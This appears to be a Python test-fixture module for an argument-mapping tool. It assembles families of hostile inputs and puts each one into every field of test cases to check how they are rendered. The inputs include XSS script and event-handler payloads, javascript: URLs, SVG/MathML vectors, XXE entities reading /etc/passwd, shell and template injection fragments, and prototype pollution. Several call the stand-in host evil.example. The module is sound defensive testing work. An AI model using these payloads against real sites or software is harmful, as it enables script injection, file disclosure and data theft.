"""Words that would do something, if anything obeyed them: made in families, none of them twice.

What is run says so by `alert`, by fetching from `evil.example`, or by setting `window.owned`.
"""

import dataclasses
from collections.abc import Iterator, Sequence

from argmap.core.case import Case, Parsed, assemble
from argmap.core.model import (
    Assumption,
    Claim,
    Evidence,
    Explanation,
    Item,
    Kind,
    Letter,
    Link,
    Question,
    Rated,
    Relation,
    Source,
)
from argmap.core.positions import SourceText, Span
from argmap.core.text import clean

_RUN = "alert(1)"
_FAR = "//evil.example/x"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT >{_RUN}</SCRIPT >",
    f"<script\x20type=module>{_RUN}</script\n>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea></noscript></template><script>{_RUN}</script>",
    f"</code></a></p></li></ul></td></tr></table></section></main><script>{_RUN}</script>",
    f"<script src={_FAR}></script>",
    f"<script/src='{_FAR}'>",
    f"\x00<script>{_RUN}</script>",
    f"<\x00script>{_RUN}</script>",
    f"<script\x0c>{_RUN}</script>",
    f"\ufeff<script>{_RUN}</script>",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<!--><script>{_RUN}</script>-->",
    f"<!-- --!><script>{_RUN}</script>",
    "<!--<script>",
    '<script type="application/json" id="data">{"items": {}}</script>',
]
HANDLERS = [
    *(
        f"<{element} {event}={_RUN}>"
        for element, event in (
            ("img src=x", "onerror"),
            ("body", "onload"),
            ("svg", "onload"),
            ("input autofocus", "onfocus"),
            ("details open", "ontoggle"),
            ("video><source", "onerror"),
            ("marquee", "onstart"),
            ("iframe", "onload"),
            ("object data=x", "onerror"),
            ("select autofocus", "onfocus"),
            ("p style=animation:x", "onanimationstart"),
            ("x tabindex=1", "onfocusin"),
        )
    ),
    *(
        f"{quote} {event}={quote}{_RUN}{quote} x={quote}"
        for quote in ('"', "'", "`", "")
        for event in ("onload", "onmouseover", "onfocus", "onclick", "autofocus onfocus")
    ),
    f"<img/src/onerror={_RUN}//",
    f"<img src=x:x onerror\n=\n{_RUN}>",
]
ELEMENTS = [
    f"<iframe src={_FAR}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<link rel=stylesheet href={_FAR}>",
    f"<style>@import '{_FAR}';</style>",
    "<style>* { display: none }</style>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<base href={_FAR}>",
    f"<form action={_FAR}><button>x</button></form>",
    f"<object data={_FAR}></object><embed src={_FAR}>",
    f"<img src={_FAR} srcset='{_FAR} 2x'>",
    f"<audio src={_FAR} autoplay></audio>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td><select><option><textarea><title>",
    "<a id=data><a id=stage name=body><form id=tools><input name=id>",
    "<dialog open><template><slot>",
]
ENTITIES = [
    *("&", "&amp;", "&amp;amp;", "&lt;b&gt;", "&#60;b&#62;", "&#x3c;script&#x3e;", "&ltb&gt"),
    *("&quot;&apos;&#39;", "&nosuch;", "&#0;", "&#xD800;", "&#x110000;", "&#", "&#x", "& &;"),
    f"&#106;avascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    "<!DOCTYPE x [<!ENTITY a 'b'><!ENTITY c SYSTEM 'file:///etc/passwd'>]><y>&c;</y>",
    "<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;",
    "<?xml version='1.0'?>",
    f"<?xml-stylesheet href='{_FAR}'?>",
]
_SCHEMES = ("javascript:", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/")
URLS = [
    *(f"{scheme}{_RUN}" for scheme in _SCHEMES),
    *(f"{before}javascript:{_RUN}" for before in ("\x01", "\t", " ", "\n", "\x1f", "\u00a0")),
    *(f"java{inside}script:{_RUN}" for inside in ("\t", "\n", "\r", "\x00", "\x01", "&#9;")),
    f"JaVaScRiPt:{_RUN}",
    f"javascript://evil.example/%0a{_RUN}",
    f"http://a.example/\njavascript:{_RUN}",
    f"https://a.example/'onclick='{_RUN}",
    f'https://a.example/" onmouseover="{_RUN}',
    "https://a.example/?b=<script>alert(1)</script>&c='d'",
    "https://a.example\\@evil.example/",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:https://a.example/x",
    "filesystem:http://a.example/x",
    "//evil.example/x",
    "https:evil.example",
    "http://",
    f"#{_RUN}",
    "mailto:a@example.org?body=<b>",
    f"[x](javascript:{_RUN})",
    f"<javascript:{_RUN}>",
    f"![x](javascript:{_RUN})",
    "![x](https://evil.example/x.png)",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f'[x](https://a.example/ "&quot; onclick={_RUN} ")',
]
VECTORS = [
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='data:,{_RUN}'/></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}>",
    f"<svg><use href='{_FAR}#x'/><image href='{_FAR}'/></svg>",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"</text></g></svg><script>{_RUN}</script>",
    f"</title></desc><script>{_RUN}</script>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<math><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    f"<math><annotation-xml encoding=text/html><script>{_RUN}</script></annotation-xml></math>",
    f"<x xmlns:s='http://www.w3.org/2000/svg'><s:script>{_RUN}</s:script></x>",
]
ENDS = [
    *(
        "<![CDATA[ x ]]>",
        "]]>",
        "]]&gt;",
        f"<![CDATA[</title><script>{_RUN}</script>]]>",
        "<![",
        "<!",
    ),
    *("-->", "--!>", "<!--", "<!-- -->", "*/", "/*", "//", "# x", "%>", "<%", "?>", "<?"),
    *("</", "<", ">", "<>", "</>", "'", '"', "`", "\\", "\\\\", "\\u003cscript\\u003e", "\\x3cb>"),
    f"\u2028{_RUN}\u2029",
    f"';{_RUN};'",
    f'";{_RUN};"',
    '{"items": {"__proto__": {"owned": 1}}}',
    "__proto__",
    "constructor",
    "}</style>",
    "x{background:url(//evil.example/x)}",
]
DOT = [
    *("\\N", "\\G \\L \\E \\T \\H", "\\n\\l\\r", "a\\", 'x"', 'x\\"', 'x\\\\"', "n1", "d1"),
    'x"]; } digraph { y [label="z',
    'x", URL="javascript:alert(1)", tooltip="y',
    'x" shapefile="/etc/passwd" y="',
    'x" image="/etc/passwd',
    f'x", href="{_FAR}"] y -> z [label="',
    "} subgraph cluster_x { label=y } {",
    "a -> b; n1 -> n1",
    "x /* y */ // z\n# w",
    "<<TABLE><TR><TD>x</TD></TR></TABLE>>",
    "</TD></TR></TABLE>>",
    "</FONT></TD></TR></TABLE>>, URL=<javascript:alert(1)>",
    '<TABLE HREF="javascript:alert(1)"><TR><TD>x</TD></TR></TABLE>',
    '<TD HREF="javascript:alert(1)" TITLE="x">y</TD>',
    '<IMG SRC="/etc/passwd"/>',
    '<FONT POINT-SIZE="9999">x</FONT>',
    "<BR/><HR/><VR/>",
    "{a|{b|<p> c}}",
    "n1:p:ne",
    "strict graph digraph node edge subgraph",
]
TEMPLATES = [
    *(
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% raw %}",
        "{0} {x!r} %s %(x)s",
        "$(id)",
        "`id`",
    ),
    *(
        "{{constructor.constructor('alert(1)')()}}",
        "[[${7*7}]]",
        "@{7*7}",
        "*{7*7}",
        "{nb}",
        "\\g<0>",
    ),
    *(
        "; id",
        "| id",
        "&& id",
        "$HOME ~ !!",
        "../../etc/passwd",
        "-Tpng -o /tmp/x",
        "%0a%0d",
        "=1+1",
    ),
    *(
        "@SUM(1)",
        "$x$ $$x$$",
        "\\(x\\)",
        "~~a~~ **b** _c_",
        "- a\n- b",
        "1. a",
        "# a\n## b",
        "| a |\n|-|",
    ),
    *("> a\n>> b", "```\nx\n```", "%%{init: {}}%%", "n1 --> n2", 'x"] --> y["', "click n1 href x"),
    *("fa:fa-car", "#quot;", "@someone #12 :smile:", "---\na: b\n---", "[^1]: x", "<br>", "&nbsp;"),
]
DIRECTIONS = [f"a{chr(code)}b" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
DIRECTIONS += [
    "\u202etxt.exe",
    "\u2067\u202e\u05e9\u05dc",
    "a\u200eb\u200fc",
    "\u061ca",
    "a\u202e\u0301",
]
CONTROLS = [
    f"a{chr(code)}b" for code in (0, 1, 7, 8, 0x0B, 0x0C, 0x0D, 0x1B, 0x1F, 0x7F, 0x85, 0x9B)
]
CONTROLS += ["\x1b[31mred\x1b]0;owned\x07", "\x00", "\x07" * 20, "a\r\nb", "a\tb", "a\u2028b"]
HALVES = ["\ud800", "\udfff", "a\ud83d", "\ude00\ud83d", "\udcff<b>", "\ud800\udc00"]
HALVES += ["\ufffe", "\uffff", "\ufeff", "\U0001fffe", "\ufdd0", "\U000e0041", "\ufffd"]
LETTERS = [
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
    "👩\u200d👩\u200d👧\u200d👦",
    "ﷺ",
    "﷽",
    "\u0130\u0131\u017fK",
    "a\u00adb",
    "\u200b",
    "e\u0301\u0302",
]
LONG = ["W" * 100_000, "<" * 100_000, "&\"'" * 30_000, "日" * 40_000]

SHORT = tuple(
    dict.fromkeys(
        text
        for family in (
            *(SCRIPTS, HANDLERS, ELEMENTS, ENTITIES, URLS, VECTORS, ENDS, DOT, TEMPLATES),
            *(DIRECTIONS, CONTROLS, HALVES, LETTERS),
        )
        for text in family
    )
)
HOSTILE = (*SHORT, *LONG)

_BATCH = 30
BATCHES = (*(SHORT[n : n + _BATCH] for n in range(0, len(SHORT), _BATCH)), tuple(LONG))
"""All of them, in cases small enough to be drawn in a second or two."""

_SPAN = Span("", 1, 1, 1, 1)
_TYPES = {
    "x": Explanation,
    "c": Claim,
    "a": Assumption,
    "e": Evidence,
    "f": Evidence,
    "s": Source,
}


def named(letter: str, number: int) -> str:
    """Return the id of the item of a kind (x c a e f s) that the text of this number is in."""
    return f"{letter}{number}"


def case_with(texts: Sequence[str], *, question: str = "Why?") -> Case:
    """Return a case with every text in every field that holds words, of every kind of item.

    For each text there are an explanation, a claim and an assumption, evidence with a source that
    is there (`e`) and with one that is not and is called that (`f`), and a source.
    """
    items: list[Item] = [_item(Question, "q", question)]
    links: dict[str, list[Link]] = {}
    for number, text in enumerate(texts):
        name = {letter: named(letter, number) for letter in _TYPES}
        items += [
            _item(Explanation, name["x"], text, answers="q"),
            _item(Claim, name["c"], text),
            _item(Assumption, name["a"], text),
            _item(Source, name["s"], text, csl=_csl(text)),
            _item(
                Evidence,
                name["e"],
                text,
                source=name["s"],
                locator=text,
                ratings={name["x"]: Rated(rating=Letter.INCONSISTENT, why=text)},
            ),
            _item(Evidence, name["f"], text, source=text, locator=text),
        ]
        for origin, target in (("c", "x"), ("a", "c"), ("e", "c"), ("f", "a")):
            address = (name[origin], name[target])
            links[name[origin]] = [_link(address, Relation.SUPPORTS, text)]
        undercut = (name["f"], name["c"], name["x"])
        links[name["f"]].append(_link(undercut, Relation.UNDERCUTS, text))
    case = assemble(
        Parsed(
            id=item.id,
            source=SourceText(item.path, ""),
            item=item,
            links=tuple(links.get(item.id, ())),
        )
        for item in items
    )
    title = texts[0] if texts else ""
    return dataclasses.replace(case, settings=case.settings.model_copy(update={"title": title}))


def plain(case: Case) -> Case:
    """Return the same case with plain words wherever there are hostile ones."""
    items = {
        name: dataclasses.replace(item, **dict(_plain(item))) for name, item in case.items.items()
    }
    links = tuple(dataclasses.replace(link, why="plain") for link in case.links)
    return dataclasses.replace(case, items=items, links=links)


def _plain(item: Item) -> Iterator[tuple[str, object]]:
    yield from (("statement", "plain"), ("body", "plain"), ("tags", ("plain",)))
    if isinstance(item, Evidence):
        kept = item.id.startswith("e") or not clean(item.source or "")
        source = item.source if kept else "plain"
        ratings = {
            name: Rated(rating=one.rating, why="plain") for name, one in item.ratings.items()
        }
        yield from (("locator", "plain"), ("source", source), ("ratings", ratings))
    if item.kind is Kind.SOURCE:
        yield "csl", {"URL": "plain", "title": "plain"}


def _csl(text: str) -> dict[str, object]:
    """Return data whose every word is cited: who, what, in what, when."""
    one = {"URL": text, "title": text, "container-title": text, "volume": text, "issued": text}
    return {**one, "author": [{"literal": text}]}


def _item(cls: type[Item], name: str, text: str, **more: object) -> Item:
    body = f"{text}\n\n> {text}\n> — {text}\n"
    return cls(
        id=name, statement=text, body=body, tags=(text,), path=f"{name}.md", spans={}, **more
    )


def _link(address: tuple[str, ...], relation: Relation, why: str) -> Link:
    return Link(address=address, relation=relation, why=why, span=_SPAN)
